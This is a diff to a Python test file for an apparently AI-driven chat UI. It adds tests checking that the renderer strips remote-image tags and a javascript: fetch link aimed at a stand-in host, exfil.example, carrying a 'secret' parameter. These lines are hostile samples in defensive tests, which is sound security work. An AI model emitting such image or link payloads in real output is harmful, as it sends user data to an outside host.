@@ -12,13 +12,22 @@ import httpx
 import pytest
 
 from core.memory_schemas import DocumentInfo, DocumentView, LearningView, MemoryStats, UploadResult
-from core.schemas import Draft, MemorySource, Plan, PlanStep, RunEvent
+from core.schemas import (
+    ConversationSummary,
+    ConversationView,
+    Draft,
+    MemorySource,
+    Message,
+    Plan,
+    PlanStep,
+    RunEvent,
+)
 from ui import memory_views as mv
-from ui import token_check
 from ui.client import ApiClient, ApiError
 from ui.progress import RunProgress
 from ui.render import (
     bubble,
+    conversation_messages,
     drafts_html,
     learning_message,
     normalise_history,
@@ -139,11 +148,6 @@ def test_api_errors_carry_the_detail_naming_the_field() -> None:
     assert caught.value.status == 422 and caught.value.detail.startswith("max_turns:")
 
 
-def test_the_ui_login_takes_the_api_token_as_password() -> None:
-    check = token_check("s3cret")
-    assert check("anyone", "s3cret") and not check("anyone", "s3cre") and not check("s3cret", "")
-
-
 def test_following_a_run_coalesces_updates_and_ends_with_the_whole_outputs() -> None:
     events = [ev(1, "status", status="planning"), *(ev(i, "token", phase="plan", text="x") for i in range(2, 40)),
               ev(40, "plan", plan=PLAN), ev(41, "task", status="done", step_id="s1", agent="leads", text="ex"),
@@ -249,3 +253,25 @@ def test_the_server_answer_to_feedback_reads_as_one_line() -> None:
                                       "used as an example for future plans.")
     plain = view.model_copy(update={"rating": None, "correction": None, "comment": None, "usable": False})
     assert learning_message(plain) == "✔ Saved: not rated · plan as made; not used as an example for future plans."
+
+
+def test_the_chat_shows_no_remote_image_of_a_stored_or_streaming_reply() -> None:
+    exfil = "![](https://exfil.example/p.png?d=secret) <IMG src=https://exfil.example/q.png>"
+    view = ConversationView(
+        conversation=ConversationSummary(id="c1", title="t", created_at=1.0, updated_at=2.0),
+        messages=[Message(id="m1", role="user", content="hi", created_at=1.0),
+                  Message(id="m2", role="assistant", content=f"Done. {exfil} [run](/api/runs/r1)", created_at=2.0)])
+    shown = conversation_messages(view)  # text stored before the server cleaned model text
+    assert shown[1]["content"] == "Done.   [run](/api/runs/r1)" and "exfil" not in json.dumps(shown)
+    p = RunProgress("r1")
+    p.apply(ev(1, "token", phase="summary", text=f"All three {exfil}"))
+    assert "exfil" not in bubble(p) and bubble(p).startswith("All three")
+    p.apply(ev(2, "summary", text=f"All three leads. {exfil}"))
+    assert "exfil" not in bubble(p)
+
+
+def test_a_source_link_never_leads_off_the_app() -> None:
+    hostile = MemorySource(collection="conversations", source_id="x", title="t", snippet="s", score=0.5,
+                           link="javascript:fetch('//exfil.example')")
+    html = sources_html([hostile])
+    assert "javascript" not in html and 'href="#"' in html
